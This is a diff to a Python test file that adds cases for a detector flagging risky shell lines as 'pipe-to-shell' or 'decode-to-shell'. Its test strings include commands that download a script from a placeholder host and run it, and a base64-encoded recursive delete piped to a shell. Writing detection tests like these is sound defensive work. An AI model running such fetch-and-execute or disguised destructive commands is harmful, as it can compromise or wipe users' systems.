@@ -199,6 +199,15 @@ class ShellFeedTests(SynchronousTestCase):
             self.assertIn("pipe-to-shell", self.flags(line), line)
         self.assertNotIn("pipe-to-shell", self.flags("curl -o f http://x; ls | grep a"))
 
+    def test_downloaded_then_run(self) -> None:
+        """A file a downloader (or decoder) of the line wrote, then run."""
+        line = "curl -o /tmp/i.sh http://x/i.sh; bash /tmp/i.sh"
+        self.assertIn("pipe-to-shell", one(line, "bash").flags)
+        self.assertIn("pipe-to-shell", one("wget http://x/r; ./r", "r").flags)
+        line = "base64 -d f > /tmp/x; . /tmp/x"
+        self.assertIn("decode-to-shell", one(line, ".").flags)
+        self.assertNotIn("pipe-to-shell", self.flags("curl -o a http://x/a; sh b"))
+
     def test_decode_to_shell(self) -> None:
         line = "echo cm0gLXJmIC8= | base64 -d | sh"
         self.assertIn("decode-to-shell", self.flags(line))
